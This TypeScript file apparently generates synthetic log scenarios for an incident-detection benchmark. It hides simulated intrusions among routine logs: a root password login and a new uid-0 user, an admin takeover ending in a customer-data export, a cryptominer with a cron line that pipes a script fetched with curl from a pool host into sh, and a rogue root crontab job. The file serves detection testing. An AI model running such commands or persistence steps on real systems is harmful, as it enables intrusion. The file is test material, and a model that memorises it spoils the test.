// Audit and security lines at INFO/NOTICE, and hosts or programs that were never in the fleet before.

import type { Scenario } from "../blind/types.js";
import { HOUR, Incident, MIN, SEC, fill, http, line, svc, tpl, type Svc } from "./kit.js";
import type { Rng } from "./rng.js";

const OPS = ["deploy", "ansible", "jdoe", "mkhan", "lchen"];

function sshSession(r: Rng, sshd: Svc, t: number, host: string): ReturnType<typeof line>[] {
  const user = r.pick(OPS);
  const port = r.int(40000, 65000);
  const ip = `10.0.${r.int(1, 3)}.${r.int(10, 60)}`;
  return [
    { ...line(r, sshd, t, "INFO", `Accepted publickey for ${user} from ${ip} port ${port} ssh2: ED25519 SHA256:${r.base64(43)}`), inst: host },
    { ...line(r, sshd, t + 40, "INFO", `pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + OPS.indexOf(user)}) by (uid=0)`), inst: host },
    { ...line(r, sshd, t + r.int(60, 900) * SEC, "INFO", `Disconnected from user ${user} ${ip} port ${port}`), inst: host },
  ];
}

export function auditUnknownActor(seed: number): Scenario {
  const name = "audit-unknown-actor";
  const inc = Incident.open(seed, name, 10 * HOUR, 14 * HOUR);
  const r = inc.r;
  const hosts = ["app-01", "app-02", "app-03", "app-04", "bastion-01"];
  const sshd = { ...svc(r, "sshd", "syslog", 0), hosts };
  const sudo = { ...svc(r, "sudo", "syslog", 0), hosts };
  const cron = { ...svc(r, "CRON", "syslog", 0), hosts };
  const systemd = { ...svc(r, "systemd", "syslog", 0), hosts };
  const useradd = { ...svc(r, "useradd", "syslog", 0), hosts: ["app-03"] };
  const agent = svc(r, "config-agent", "canonical", 4);
  const payments = svc(r, "payments-api", "canonical", 3);
  const flags = svc(r, "flags-service", "canonical", 2);
  for (let t = inc.start + r.int(5, 40) * MIN; t < inc.end; t += r.int(20, 90) * MIN) for (const e of sshSession(r, sshd, t, r.pick(hosts))) inc.add(e);
  for (const h of hosts)
    inc.every(
      10 * MIN,
      inc.start + r.int(0, 599) * SEC,
      inc.end,
      (t) => ({ ...line(r, cron, t, "INFO", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)", null, { facility: "cron" }), inst: h }),
      0.01,
    );
  inc.every(MIN, inc.start + r.int(0, 59) * SEC, inc.end, (t) =>
    line(r, agent, t, "INFO", fill(r, `config poll: no changes (rev ${r.int(0, 0) + 812}, etag {hex:12})`)),
  );
  const rot = inc.at(r.float(0.1, 0.9));
  for (const h of hosts) {
    inc.add({ ...line(r, systemd, rot + r.int(0, 30) * SEC, "INFO", "Starting Rotate log files..."), inst: h });
    inc.add({ ...line(r, systemd, rot + r.int(31, 60) * SEC, "INFO", "logrotate.service: Deactivated successfully."), inst: h });
  }
  // The intrusion: a password login as root, a uid-0 user, a flag flip and config reloads nobody signed.
  const t0 = inc.at(r.float(0.45, 0.8));
  const evil = `185.${r.int(100, 250)}.${r.int(0, 255)}.${r.int(1, 254)}`;
  const p = (t: number, s: Svc, msg: string, inst?: string) => inc.add({ ...line(r, s, t, "INFO", msg, "pattern"), ...(inst === undefined ? {} : { inst }) });
  p(t0, sshd, `Accepted password for root from ${evil} port ${r.int(40000, 65000)} ssh2`, "app-03");
  p(t0 + 3 * SEC, useradd, "new user: name=support2, UID=0, GID=0, home=/home/support2, shell=/bin/bash, from=/dev/pts/1");
  p(t0 + 5 * SEC, useradd, "add 'support2' to group 'sudo'");
  p(
    t0 + r.int(2, 6) * MIN,
    flags,
    `flag payments.skip_3ds_check changed false -> true by actor=<none> via PUT /internal/flags (mTLS identity: none, source ${evil})`,
  );
  let t = t0 + r.int(6, 10) * MIN;
  p(t, payments, "feature flag flipped: payments.skip_3ds_check=true (actor unknown, no audit token)");
  const reloads = r.int(8, 18);
  for (let i = 0; i < reloads && t < inc.end; i++) {
    t += r.int(4, 20) * MIN;
    p(t, agent, `config reloaded by unknown actor: uid=0 comm=python3 source=/tmp/.cache/cfg.yaml rev=${813 + i}`);
  }
  inc.fillTo(r.int(2000, 3000), [
    {
      g: http(r, payments, [
        { m: "POST", p: "/v1/charges", ms: 260 },
        { m: "GET", p: "/v1/charges/{uuid}", ms: 14, w: 3 },
        { m: "POST", p: "/v1/refunds", ms: 200, w: 0.3 },
      ]),
      w: 30,
    },
    { g: tpl(r, payments, "INFO", ["3DS challenge completed for charge {uuid}", "webhook delivered to merchant {int:1000-9999} in {ms:120}ms"]), w: 6 },
    {
      g: tpl(r, payments, "WARNING", ["card declined for charge {uuid}: do_not_honor", "webhook to merchant {int:1000-9999} returned 410, disabling endpoint"]),
      w: 1,
    },
    { g: tpl(r, flags, "DEBUG", ["flag snapshot v{int:300-310} served to {pick:payments-api|checkout-web|risk-engine}"]), w: 6 },
    {
      g: tpl(r, sudo, "INFO", [
        "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart payments-api",
        "ansible : PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-{hex:24}",
      ]),
      w: 0.8,
    },
    {
      g: tpl(r, systemd, "INFO", [
        "Started Session {int:1000-9999} of User {pick:deploy|ansible|jdoe}.",
        "session-{int:1000-9999}.scope: Deactivated successfully.",
        "Finished Daily apt download activities.",
      ]),
      w: 1.5,
    },
  ]);
  return inc.build(
    name,
    "A day of routine ssh, sudo and cron lines in which a root password login, a new uid-0 user, an unsigned flag flip and config reloads by an unknown actor appear as a handful of NOTICE/INFO lines.",
  );
}

export function loginFromNewCountry(seed: number): Scenario {
  const name = "login-from-new-country";
  const inc = Incident.open(seed, name, 20 * HOUR, 24 * HOUR);
  const r = inc.r;
  const auth = svc(r, "auth-service", "otel", 3);
  const admin = svc(r, "admin-portal", "otel", 2);
  const api = svc(r, "customer-api", "otel", 3);
  const exporter = svc(r, "export-service", "otel", 1);
  const audit = svc(r, "audit-log", "otel", 1);
  const people = ["alice", "bob", "chen", "dana", "erik", "fatima", "gita", "hugo", "ines", "jonas", "admin"];
  const home = ["DE", "NL", "FR", "GB"];
  const login = (t: number) => {
    const u = r.pick(people);
    const c = r.pick(home);
    return line(r, auth, t, "INFO", `login succeeded user=${u}@corp.example country=${c} method=${r.pick(["password+webauthn", "sso", "sso"])}`, null, {
      "user.name": `${u}@corp.example`,
      "client.geo.country_iso_code": c,
    });
  };
  const t0 = inc.end - r.int(60, 240) * MIN;
  const evil = r.pick(["RU", "KP", "NG", "VN", "BR"]);
  const asn = `AS${r.int(10000, 60000)}`;
  const p = (t: number, s: typeof auth, msg: string, f?: Record<string, unknown>) => inc.add(line(r, s, t, "INFO", msg, "pattern", f));
  p(t0, auth, `login succeeded user=admin@corp.example country=${evil} method=password asn=${asn} new_device=true`, {
    "user.name": "admin@corp.example",
    "client.geo.country_iso_code": evil,
  });
  p(t0 + 40 * SEC, auth, "mfa factor removed user=admin@corp.example factor=webauthn:yubikey-5c by=admin@corp.example");
  p(t0 + 2 * MIN, admin, `role granted: org_owner to user=ext-consult-${r.int(2, 9)}@mailbox.example by admin@corp.example`);
  p(t0 + 3 * MIN, auth, `api token created name=backup-sync scope=admin:* ttl=never owner=admin@corp.example from country=${evil}`);
  const rows = r.int(120000, 260000);
  p(t0 + 5 * MIN, exporter, `customer export started rows=${rows} format=csv destination=https://files.transfer-${r.hex(4)}.example/u/${r.alnum(10)}`);
  const chunks = r.int(10, 60);
  for (let i = 1; i <= chunks; i++)
    p(t0 + 5 * MIN + i * r.int(8, 20) * SEC, exporter, `export chunk ${i}/${chunks} uploaded to external destination (${r.int(3, 6)} MiB)`);
  inc.fillTo(r.int(2400, 4800), [
    { g: login, w: 6 },
    {
      g: tpl(r, auth, "WARNING", [
        "login failed: invalid password user={pick:alice|bob|chen|dana|erik}@corp.example country={pick:DE|NL|FR}",
        "login failed: unknown user {pick:test|admin1|guest}@corp.example",
      ]),
      w: 1,
    },
    { g: tpl(r, auth, "INFO", ["token refreshed for session {hex:16}", "session expired for user {pick:alice|bob|chen|dana|erik}@corp.example"]), w: 5 },
    {
      g: http(r, api, [
        { m: "GET", p: "/v1/customers/{id}", ms: 20, w: 4 },
        { m: "GET", p: "/v1/customers?page={int:1-40}", ms: 140 },
        { m: "PATCH", p: "/v1/customers/{id}", ms: 45 },
      ]),
      w: 36,
    },
    {
      g: tpl(r, admin, "INFO", [
        "report {pick:churn|mrr|signups} viewed by {pick:alice|bob|chen}@corp.example",
        "user {pick:dana|erik|gita}@corp.example updated notification settings",
      ]),
      w: 3,
    },
    {
      g: tpl(r, exporter, "INFO", ["scheduled export {pick:daily-invoices|weekly-usage} finished rows={int:1000-9000} destination=s3://acme-exports/"]),
      w: 0.5,
    },
    { g: tpl(r, audit, "INFO", ["audit batch of {int:20-200} events persisted", "retention job removed {int:0-500} events older than 400d"]), w: 4 },
  ]);
  return inc.build(
    name,
    "Over a day of ordinary logins from the usual countries, the admin account signs in from a new country and a handful of INFO audit lines follow: MFA removed, owner role granted, a never-expiring token, an external export.",
  );
}

export function unexpectedNewHost(seed: number): Scenario {
  const name = "unexpected-new-host";
  const inc = Incident.open(seed, name, 4 * HOUR, 8 * HOUR);
  const r = inc.r;
  const fleet = ["web-01", "web-02", "web-03", "web-04"];
  const scaleAt = inc.at(r.float(0.2, 0.7));
  const web = { ...svc(r, "shop-web", "syslog", 0), hosts: fleet };
  const nginx = { ...svc(r, "nginx", "syslog", 0), hosts: fleet };
  const systemd = { ...svc(r, "systemd", "syslog", 0), hosts: fleet };
  const kernel = { ...svc(r, "kernel", "syslog", 0), hosts: fleet };
  const cron = { ...svc(r, "CRON", "syslog", 0), hosts: fleet };
  // Rare but routine: autoscaling adds web-05, which boots and serves like its siblings.
  const w5 = (s: Svc) => ({ ...s, hosts: ["web-05"] });
  inc.add(
    line(
      r,
      w5({ ...systemd, name: "cloud-init" }),
      scaleAt,
      "INFO",
      `Cloud-init v. 23.4.4 finished at ${new Date(scaleAt).toUTCString()}. Datasource DataSourceEc2Local.  Up ${r.int(20, 40)}.${r.int(10, 99)} seconds`,
    ),
  );
  inc.add(line(r, w5(systemd), scaleAt + 2 * SEC, "INFO", "Started nginx.service - A high performance web server and a reverse proxy server."));
  inc.add(line(r, w5(systemd), scaleAt + 3 * SEC, "INFO", "Started shop-web.service - Shop web application."));
  // The unknown host: a miner service and its pool chatter; a cron entry on web-03 that fetches the loader.
  const bad = { ...svc(r, "kdevtmpfsi", "syslog", 0), hosts: [`ip-10-0-${r.int(8, 12)}-${r.int(100, 250)}`] };
  const onset = inc.at(r.float(0.15, 0.75));
  const pool = `45.9.148.${r.int(2, 250)}`;
  inc.add(line(r, { ...bad, name: "systemd" }, onset, "INFO", "Started kdevtmpfsi.service.", "pattern"));
  inc.add(
    line(
      r,
      bad,
      onset + 2 * SEC,
      "INFO",
      `connected to pool stratum+tcp://${pool}:3333 as worker 4BrL51JCc9NGQ71kWhnYoDRffsDZy7m1HUU7MRU4nUMXAHNFBEJhkTZV9HdaL4gfuNBxLPc3BeMkLGaPbF5vWtANQ${r.hex(6)}`,
      "pattern",
    ),
  );
  inc.scatter(r.int(30, 160), onset + 10 * SEC, inc.end, (t) =>
    line(r, bad, t, "INFO", fill(r, "accepted share {int:1-4000}/{int:4000-4100} (diff 20000) {int:90-140} ms"), "pattern"),
  );
  inc.every(r.pick([MIN, 5 * MIN]), onset + 30 * SEC, inc.end, (t) => ({
    ...line(r, cron, t, "INFO", `(www-data) CMD (curl -fsSL http://${pool}/ldr.sh | sh >/dev/null 2>&1)`, "pattern", { facility: "cron" }),
    inst: "web-03",
  }));
  const withW5 = (s: Svc) => ({ ...s, hosts: [...fleet, "web-05"] });
  const webParts = (from: number | undefined, to: number | undefined, s: Svc, sn: Svc, w: number) => [
    {
      g: tpl(r, s, "INFO", [
        '{ip} "GET /product/{id} HTTP/1.1" 200 {int:2000-40000} rt={int:5-80}ms',
        '{ip} "GET /category/{pick:tents|lamps|boots} HTTP/1.1" 200 {int:2000-40000} rt={int:10-140}ms',
        '{ip} "POST /cart HTTP/1.1" 201 {int:100-900} rt={int:20-90}ms',
      ]),
      w,
      ...(from === undefined ? {} : { from }),
      ...(to === undefined ? {} : { to }),
    },
    {
      g: tpl(r, sn, "INFO", ["worker {int:1-16} served session {hex:10} in {int:4-90}ms", "rendered template product.html in {int:3-30}ms"]),
      w: w / 2,
      ...(from === undefined ? {} : { from }),
      ...(to === undefined ? {} : { to }),
    },
  ];
  inc.fillTo(r.int(2400, 4800), [
    ...webParts(undefined, scaleAt, nginx, web, 30),
    ...webParts(scaleAt + 10 * SEC, undefined, withW5(nginx), withW5(web), 30),
    { g: tpl(r, kernel, "WARNING", ["TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.  Check SNMP counters."]), w: 0.2 },
    {
      g: tpl(
        r,
        cron,
        "INFO",
        ["(root) CMD (   cd / && run-parts --report /etc/cron.hourly)", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"],
        () => ({ facility: "cron" }),
      ),
      w: 2,
    },
    {
      g: tpl(r, systemd, "INFO", [
        "Starting Cleanup of Temporary Directories...",
        "Finished Cleanup of Temporary Directories.",
        "Started Session {int:100-999} of User deploy.",
      ]),
      w: 0.8,
    },
    { g: tpl(r, web, "WARNING", ["slow template render product.html {int:300-600}ms", "session store reconnect after idle timeout"]), w: 0.5 },
  ]);
  return inc.build(
    name,
    "Among a web fleet's routine syslog (and a legitimate autoscaled web-05 joining), a host never seen before starts a miner service reporting pool shares, and web-03 gains a cron entry that pipes a remote script to sh.",
  );
}

export function quietDayCrontabEdit(seed: number): Scenario {
  const name = "quiet-day-crontab-edit";
  const inc = Incident.open(seed, name, 22 * HOUR, 24 * HOUR);
  const r = inc.r;
  const hosts = ["db-01", "app-01", "app-02", "worker-01"];
  const on = (s: string, h: string[]) => ({ ...svc(r, s, "syslog", 0), hosts: h });
  const cron = on("CRON", hosts);
  const systemd = on("systemd", hosts);
  const pg = on("postgres", ["db-01"]);
  const backup = on("pgbackrest", ["db-01"]);
  const certbot = on("certbot", ["app-01"]);
  const worker = on("payments-worker", ["worker-01"]);
  const app = on("shop-app", ["app-01", "app-02"]);
  const kernel = on("kernel", ["worker-01"]);
  const crontab = on("crontab", ["worker-01"]);
  // Rare but routine: hourly and nightly jobs, a long backup, a renewal check.
  for (const h of hosts)
    inc.every(
      HOUR,
      inc.start + r.int(0, 59) * MIN,
      inc.end,
      (t) => ({ ...line(r, cron, t, "INFO", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)", null, { facility: "cron" }), inst: h }),
      0.001,
    );
  const night = inc.at(r.float(0.2, 0.6));
  inc.add(line(r, backup, night, "INFO", "full backup start archive_id=1-1 stanza=main"));
  inc.add(line(r, backup, night + r.int(25, 45) * MIN, "INFO", `backup command end: completed successfully (${r.int(1500000, 2700000)}ms)`));
  for (const h of hosts) {
    inc.add({ ...line(r, systemd, night + r.int(40, 60) * MIN, "INFO", "Starting Rotate log files..."), inst: h });
    inc.add({ ...line(r, systemd, night + r.int(61, 65) * MIN, "INFO", "logrotate.service: Deactivated successfully."), inst: h });
  }
  inc.add(line(r, certbot, inc.at(r.float(0.1, 0.9)), "INFO", "Certificate not yet due for renewal; no action taken."));
  // A root crontab edit at an odd hour, then an hourly job out of /var/tmp.
  const edit = inc.at(r.float(0.3, 0.7));
  inc.add(line(r, crontab, edit, "INFO", "(root) BEGIN EDIT (root)", "pattern", { facility: "cron" }));
  inc.add(line(r, crontab, edit + r.int(20, 90) * SEC, "INFO", "(root) REPLACE (root)", "pattern", { facility: "cron" }));
  inc.add(line(r, crontab, edit + r.int(91, 100) * SEC, "INFO", "(root) END EDIT (root)", "pattern", { facility: "cron" }));
  inc.every(HOUR, edit + r.int(5, 40) * MIN, inc.end, (t) => ({
    ...line(r, cron, t, "INFO", "(root) CMD (/var/tmp/.x/update >/dev/null 2>&1)", "pattern", { facility: "cron" }),
    inst: "worker-01",
  }));
  // And the worker crashes once or more.
  const crashes = r.int(1, 3);
  for (let i = 0; i < crashes; i++) {
    const c = inc.at(r.float(0.5, 0.98));
    const pid = r.int(2000, 30000);
    inc.add(
      line(
        r,
        kernel,
        c,
        "INFO",
        `payments-worke[${pid}]: segfault at 0 ip 00007f${r.hex(10)} sp 00007ff${r.hex(9)} error 4 in libssl.so.3[7f${r.hex(10)}+5d000]`,
        "error",
      ),
    );
    inc.add(line(r, systemd, c + 300, "INFO", "payments-worker.service: Main process exited, code=dumped, status=11/SEGV", "error"));
    inc.add(line(r, systemd, c + 310, "WARNING", "payments-worker.service: Failed with result 'core-dump'.", "error"));
    inc.add(line(r, systemd, c + 10 * SEC, "INFO", "payments-worker.service: Scheduled restart job, restart counter is at 1."));
  }
  inc.fillTo(r.int(2000, 3600), [
    {
      g: tpl(r, app, "INFO", [
        '{ip} "GET /shop/{id} HTTP/1.1" 200 rt={int:8-90}ms',
        '{ip} "POST /basket HTTP/1.1" 201 rt={int:20-120}ms',
        "worker {int:1-8} recycled after 10000 requests",
      ]),
      w: 30,
    },
    {
      g: tpl(r, worker, "INFO", ["settled batch {int:1000-9999}: {int:5-90} payments in {int:80-900}ms", "polling queue payments.settle: {int:0-40} pending"]),
      w: 12,
    },
    {
      g: tpl(r, pg, "INFO", [
        "checkpoint starting: time",
        "checkpoint complete: wrote {int:100-3000} buffers ({int:0-9}.{int:0-9}%); 0 WAL file(s) added, 0 removed, {int:1-6} recycled; write={int:20-270}.{int:100-999} s, sync=0.0{int:10-99} s, total={int:20-270}.{int:100-999} s",
        'automatic vacuum of table "shop.public.sessions": index scans: 1',
      ]),
      w: 4,
    },
    { g: tpl(r, pg, "WARNING", ["duration: {int:1000-1900}.{int:100-999} ms  statement: SELECT * FROM report_daily_sales($1)"]), w: 0.3 },
    {
      g: tpl(
        r,
        cron,
        "INFO",
        [
          "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
          "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
          "pam_unix(cron:session): session closed for user root",
        ],
        () => ({ facility: "cron" }),
      ),
      w: 5,
    },
    {
      g: tpl(r, systemd, "INFO", [
        "Started Session {int:100-999} of User deploy.",
        "Starting Daily apt upgrade and clean activities...",
        "apt-daily-upgrade.service: Deactivated successfully.",
        "Started Cleanup of Temporary Directories.",
      ]),
      w: 1,
    },
  ]);
  return inc.build(
    name,
    "A quiet day of cron, backups, rotation and checkpoints on four hosts: root's crontab is edited at an odd hour and a job from /var/tmp then runs hourly, while the payments worker segfaults once or more.",
  );
}
